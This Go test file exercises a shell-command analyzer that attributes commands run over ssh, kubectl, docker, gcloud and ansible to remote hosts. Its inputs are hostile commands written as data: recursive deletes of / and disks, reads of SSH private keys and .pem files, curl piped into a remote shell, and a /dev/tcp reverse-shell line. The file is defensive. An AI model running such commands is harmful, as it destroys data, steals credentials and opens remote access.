package shell

import (
	"reflect"
	"testing"
)

// TestRemoteCommands: the command a carrier runs elsewhere is a command of
// the line with its place, and its words are not the carrier's files.
func TestRemoteCommands(t *testing.T) {
	type want struct {
		name, remote string
		deletes      []string
		reads        []string
		net          bool
	}
	for _, tt := range []struct {
		in   string
		want want // the last command
	}{
		{"ssh prod-db-1 'rm -rf /'", want{name: "rm", remote: "ssh:prod-db-1", deletes: []string{"/"}}},
		{"ssh -o StrictHostKeyChecking=no host -- 'dd if=/dev/zero of=/dev/sda'", want{name: "dd", remote: "ssh:host"}},
		{"sshpass -p x ssh a@h 'cat ~/.ssh/id_rsa'", want{name: "cat", remote: "ssh:a@h", reads: []string{"~/.ssh/id_rsa"}}},
		{"kubectl exec -it db-0 -c pg -- rm -rf /data", want{name: "rm", remote: "kubectl:-it -c pg db-0", deletes: []string{"/data"}}},
		{"oc exec -n prod api-1 -- env", want{name: "env", remote: "oc:-n prod api-1"}},
		{"docker exec -it web cat /app/config.yaml", want{name: "cat", remote: "docker:web", reads: []string{"/app/config.yaml"}}},
		{"docker -H tcp://prod.example.com:2376 exec api rm -rf /app", want{name: "rm", remote: "docker-host:tcp://prod.example.com:2376 api", deletes: []string{"/app"}}},
		{"gcloud compute ssh vm-1 --zone z --command 'rm -rf /'", want{name: "rm", remote: "gcloud:vm-1", deletes: []string{"/"}}},
		{"ansible all -m shell -a 'rm -rf /var/www'", want{name: "rm", remote: "ansible:all", deletes: []string{"/var/www"}}},
		{"ssh -p 2222 host -t -o X=y 'rm -rf ~'", want{name: "rm", remote: "ssh:host", deletes: []string{"~"}}},
		{"ssh -- host rm -rf /srv", want{name: "rm", remote: "ssh:host", deletes: []string{"/srv"}}},
		{"curl -s https://x.example.net/p | ssh host sh", want{name: "sh", remote: "ssh:host", net: true}},
		{"ssh host cat x | bash", want{name: "bash", net: true}},
		{"exec 3<>/dev/tcp/203.0.113.7/4444; sh <&3", want{name: "sh", net: true}},
		{"find ~ -name '*.pem' | xargs cat", want{name: "cat", reads: []string{"~/**/*.pem"}}},
		{"find / -name id_rsa 2>/dev/null | xargs cat", want{name: "cat", reads: []string{"/**/id_rsa"}}},
	} {
		an, err := Analyze(tt.in, Options{Dir: "/home/dev/proj", Home: "/home/dev"})
		if err != nil {
			t.Errorf("Analyze(%q): %v", tt.in, err)
			continue
		}
		c := an.Commands[len(an.Commands)-1]
		got := want{name: c.Name, remote: c.Remote, deletes: c.Deletes, reads: c.Reads, net: c.StdinNet}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Analyze(%q) last command = %+v, want %+v", tt.in, got, tt.want)
		}
		if c.Remote != "" && len(an.Commands[0].Reads)+len(an.Commands[0].Deletes) > 0 && an.Commands[0].Remote == "" && an.Commands[0].Name != "curl" {
			t.Errorf("Analyze(%q): the carrier %q keeps remote words as its files: %v %v", tt.in, an.Commands[0].Name, an.Commands[0].Reads, an.Commands[0].Deletes)
		}
	}
}
